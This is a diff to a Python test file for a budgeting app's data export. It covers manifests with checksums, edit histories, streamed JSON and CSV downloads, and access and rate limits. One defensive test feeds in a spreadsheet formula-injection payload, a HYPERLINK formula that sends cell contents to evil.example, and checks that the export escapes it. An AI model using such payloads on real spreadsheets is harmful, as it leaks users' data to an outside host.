@@ -3,6 +3,7 @@
 import csv
 import datetime
 import gc
+import hashlib
 import io
 import json
 import zipfile
@@ -12,9 +13,12 @@ import boto3
 import pytest
 import time_machine
 from django.core.files.uploadedfile import SimpleUploadedFile
+from rest_framework.serializers import ListSerializer, Serializer
 
 from accounts import export
-from expenses.models import Expense
+from accounts.serializers import ExportOutput
+from expenses import services as expenses
+from expenses.models import Expense, History
 from reports.archive import Filed
 from smartbudget.core import aws
 from smartbudget.core.errors import ThrottledError
@@ -45,7 +49,20 @@ def opened(chunks):
 def exported(user):
     archive = opened(export.begin(user))
     assert archive.testzip() is None
+    assert_as_listed(archive)
     return archive
+
+
+def assert_as_listed(archive):
+    """Hold each file against the manifest, which is the last and lists all others."""
+    files = read(archive, "manifest.json")["files"]
+    assert [*(each["path"] for each in files), "manifest.json"] == archive.namelist()
+    for each in files:
+        content = archive.read(each["path"])
+        assert each["size_bytes"] == len(content)
+        assert each["sha256"] == hashlib.sha256(content).hexdigest()
+        if "items" in each:
+            assert each["items"] == len(json.loads(content))
 
 
 def read(archive, name):
@@ -108,7 +125,7 @@ def test_the_table_is_exact_and_names_the_receipts(alice):
     assert archive.read(row["receipt"]) == PDF
 
 
-@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d"])
 def test_no_text_becomes_a_formula(alice, sign):
     attack = f'{sign}HYPERLINK("http://evil.example/?"&A1,"x")'
     make_expense(alice, category=attack[:50], description=attack)
@@ -136,6 +153,232 @@ def test_reports_come_too_and_what_is_missing_is_named(alice):
     assert f"receipts/{lost.rpartition('/')[2]}" not in names
     assert archive.read(f"reports/{report.file_name}") == b"a report"
     assert lost.rpartition("/")[2] in archive.read("missing.txt").decode()
+    missing = read(archive, "manifest.json")["missing"]
+    assert missing == [f"receipts/{lost.rpartition('/')[2]}"]
+
+
+def test_histories_are_in_it_as_the_api_tells_them(alice):
+    client = client_for(alice)
+    expense = make_expense(alice, amount="5")
+    make_expense(alice)
+    expenses.edit_expense(alice, expense.expense_id, amount="7.50")
+    attach(client, expense)
+    deleted = make_expense(alice)
+    expenses.edit_expense(alice, deleted.expense_id, description="x")
+    expenses.delete_expense(alice, deleted.expense_id)
+
+    (told,) = read(exported(alice), "history.json")
+
+    listed = client.get(f"/api/expenses/{expense.expense_id}/history").json()
+    assert told == {"expense_id": expense.expense_id, "changes": listed["results"]}
+    assert len(told["changes"]) == 3
+    assert read_json(alice)["history"] == [told]
+
+
+@pytest.mark.parametrize(("count", "calls"), [(0, 0), (1, 1), (100, 1), (101, 2)])
+def test_a_call_reads_a_hundred_histories(alice, count, calls):
+    with Expense.batch_write() as batch:
+        for number in range(120):
+            day = TODAY - datetime.timedelta(days=number)
+            expense = stored_expense(alice, f"{number:032x}", day)
+            expense.version = 2 if number < count else 1
+            batch.save(expense)
+    with History.batch_write() as batch:
+        for number in range(count):
+            batch.save(History(History.id_of(f"{number:032x}")))
+
+    with counted() as made:
+        archive = exported(alice)
+
+    assert made.names.count("dynamodb.BatchGetItem") == calls
+    assert len(read(archive, "history.json")) == count
+
+
+def test_histories_that_one_answer_cannot_hold_are_asked_for_again(alice):
+    ids = [make_expense(alice, amount="5").expense_id for _ in range(3)]
+    for expense_id in ids:
+        expenses.edit_expense(alice, expense_id, amount="6")
+    kept = []
+
+    def answer_one(request, operation):
+        asked = json.loads(request.body)["RequestItems"]["expenses"]
+        kept.append(len(asked["Keys"]))
+        first, *rest = asked["Keys"]
+        answer = {"Responses": {"expenses": [first]}, "UnprocessedKeys": {}}
+        if rest:
+            answer["UnprocessedKeys"] = {"expenses": {"Keys": rest}}
+        return faults.answer(request, 200, json.dumps(answer))
+
+    with faults.hooked("BatchGetItem", answer_one):
+        archive = opened(export.begin(alice))
+
+    assert kept == [3, 2, 1]
+    told = read(archive, "history.json")
+    assert {each["expense_id"] for each in told} == set(ids)
+
+
+def read_json(user):
+    return json.loads(b"".join(export.begin_json(user)))
+
+
+def test_the_json_has_what_the_zip_has(alice):
+    make_budget(alice, amount="5.00")
+    attach(client_for(alice), make_expense(alice, amount="600"))
+    report = Filed(report_key(alice.user_id, "monthly", NOON), 0)
+    s3().put_object(Bucket=BUCKET, Key=report.report_key, Body=b"a report")
+
+    found = read_json(alice)
+
+    archive = exported(alice)
+    assert list(found) == [
+        "made_at",
+        "profile",
+        "budgets",
+        "notifications",
+        "expenses",
+        "history",
+        "reports",
+    ]
+    for title in ("profile", "budgets", "notifications", "expenses", "history"):
+        assert found[title] == read(archive, f"{title}.json")
+        assert found[title]
+    assert found["reports"] == [
+        {
+            "file_name": report.file_name,
+            "report_type": "monthly",
+            "created_at": report.created_at,
+            "size_bytes": len(b"a report"),
+        }
+    ]
+
+
+def test_the_schema_of_the_json_is_true(alice):
+    """Every field that is sent is described, and none is described that is not."""
+    make_budget(alice, amount="5.00")
+    expense = make_expense(alice)
+    expenses.edit_expense(alice, expense.expense_id, amount="6")
+    report = report_key(alice.user_id, "monthly", NOON)
+    s3().put_object(Bucket=BUCKET, Key=report, Body=b"a report")
+
+    assert_described(read_json(alice), ExportOutput())
+
+
+def assert_described(value, serializer):
+    assert set(value) == set(serializer.fields)
+    for name, field in serializer.fields.items():
+        if isinstance(field, ListSerializer):
+            assert value[name], f"{name} has nothing to look at"
+            assert_described(value[name][0], field.child)
+        elif isinstance(field, Serializer) and value[name] is not None:
+            assert_described(value[name], field)
+
+
+def test_an_empty_account_is_whole_as_json_too(alice):
+    found = read_json(alice)
+
+    assert found["profile"]["username"] == "alice"
+    assert [found[each] for each in ("budgets", "expenses", "history")] == [[]] * 3
+
+
+def rows_of(answer):
+    text = b"".join(answer).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_the_table_alone_can_be_had_of_some_days(alice):
+    for day in ("2026-01-31", "2026-02-01", "2026-02-28", "2026-03-01"):
+        make_expense(alice, date=day, description="=1+1")
+
+    first, last = datetime.date(2026, 2, 1), datetime.date(2026, 2, 28)
+    found = rows_of(export.begin_csv(alice, start=first, end=last))
+
+    assert [each["date"] for each in found] == ["2026-02-28", "2026-02-01"]
+    assert {each["description"] for each in found} == {"'=1+1"}
+    assert len(rows_of(export.begin_csv(alice, start=last))) == 2
+    assert len(rows_of(export.begin_csv(alice, end=first))) == 2
+    assert rows_of(export.begin_csv(alice)) == table(exported(alice))
+
+
+@pytest.mark.parametrize("begin", [export.begin_json, export.begin_csv])
+def test_many_are_sent_in_chunks_as_they_are_read(alice, begin):
+    with Expense.batch_write() as batch:
+        for number in range(1001):
+            batch.save(stored_expense(alice, f"{number:032x}", TODAY))
+    gc.collect()
+    before = expenses_alive()
+
+    most, sizes = 0, []
+    for chunk in begin(alice):
+        sizes.append(len(chunk))
+        most = max(most, expenses_alive() - before)
+
+    assert most <= 500  # a page
+    assert max(sizes) < 100_000
+    assert len(sizes) > 1
+
+
+@pytest.mark.parametrize("begin", [export.begin_json, export.begin_csv])
+def test_one_of_the_others_broken_off_leaves_nothing_open(alice, begin):
+    with Expense.batch_write() as batch:
+        for number in range(601):
+            batch.save(stored_expense(alice, f"{number:032x}", TODAY))
+    chunks = begin(alice)
+    next(chunks)
+
+    chunks.close()
+    gc.collect()
+
+
+@pytest.mark.parametrize(
+    ("path", "kind", "name"),
+    [
+        ("/api/export.json", "application/json", "json"),
+        ("/api/export/expenses.csv", "text/csv; charset=utf-8", "csv"),
+    ],
+)
+@pytest.mark.parametrize("accept", ["*/*", "text/csv", "application/json", "image/png"])
+def test_an_address_has_one_form_whatever_is_accepted(alice, path, kind, name, accept):
+    make_expense(alice)
+
+    answer = client_for(alice).get(path, headers={"Accept": accept})
+
+    assert answer.status_code == 200
+    assert answer.streaming
+    assert answer.headers["Content-Type"] == kind
+    assert answer.headers["Content-Disposition"] == (
+        f'attachment; filename="smart-budget-alice-2026-03-18.{name}"'
+    )
+    assert b"Groceries" in b"".join(answer.streaming_content)
+
+
+def test_the_other_doors_are_for_their_owner_and_as_often(alice):
+    bob = make_user("bob")
+    make_expense(bob, description="Bob's")
+    client = client_for(alice)
+    paths = ["/api/export.json", "/api/export/expenses.csv"]
+
+    for path in paths:
+        assert client_for().get(path).status_code == 401
+        assert b"Bob" not in b"".join(client.get(path).streaming_content)
+    for _ in range(3):
+        export.begin_csv(alice)
+    for path in [*paths, "/api/export"]:
+        refused = client.get(path)
+        assert refused.status_code == 429
+        assert refused.headers["Retry-After"]
+
+
+@pytest.mark.parametrize(
+    "query", ["start=tomorrow", "start=2026-02-02&end=2026-02-01", "category=Fun"]
+)
+def test_what_the_table_cannot_be_narrowed_by_is_refused_and_not_counted(alice, query):
+    client = client_for(alice)
+
+    for _ in range(6):
+        answer = client.get(f"/api/export/expenses.csv?{query}")
+        assert answer.status_code == 400
+        assert answer.headers["Content-Type"].startswith("application/")
+    assert client.get("/api/export").status_code == 200
 
 
 def test_an_empty_account_makes_a_whole_zip(alice):
@@ -145,6 +388,8 @@ def test_an_empty_account_makes_a_whole_zip(alice):
         "budgets.json",
         "expenses.csv",
         "expenses.json",
+        "history.json",
+        "manifest.json",
         "notifications.json",
         "profile.json",
     ]
@@ -160,7 +405,7 @@ def test_others_things_are_not_in_it(alice):
 
     archive = exported(alice)
 
-    assert len(archive.namelist()) == 5
+    assert len(archive.namelist()) == 7
     assert all(b"Bob" not in archive.read(name) for name in archive.namelist())
 
 
@@ -174,6 +419,7 @@ def stored_expense(user, expense_id, day):
         category_key="fun",
         created_at="2026-01-01T00:00:00.000000+00:00",
         updated_at="2026-01-01T00:00:00.000000+00:00",
+        version=1,
     )
 
 
